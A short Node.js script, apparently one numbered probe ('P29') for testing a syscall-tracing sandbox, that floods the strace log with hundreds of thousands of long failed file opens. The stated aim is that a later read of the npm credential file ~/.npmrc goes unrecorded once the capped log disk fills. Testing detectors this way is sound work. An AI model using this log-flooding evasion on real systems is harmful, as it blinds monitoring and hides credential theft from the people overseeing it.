// P29: attack the tracer's log. Each failed open of a long path is one long strace line; a log on a
// size-capped disk would fill and the read of ~/.npmrc at the end would go unrecorded.
const fs = require('fs');
const os = require('os');
const path = require('path');
const long = `/nonexistent/${'a'.repeat(4000)}`;
for (let i = 0; i < 600000; i++) {
  try {
    fs.openSync(`${long}${i}`, 'r');
  } catch {}
}
try {
  fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
} catch {}
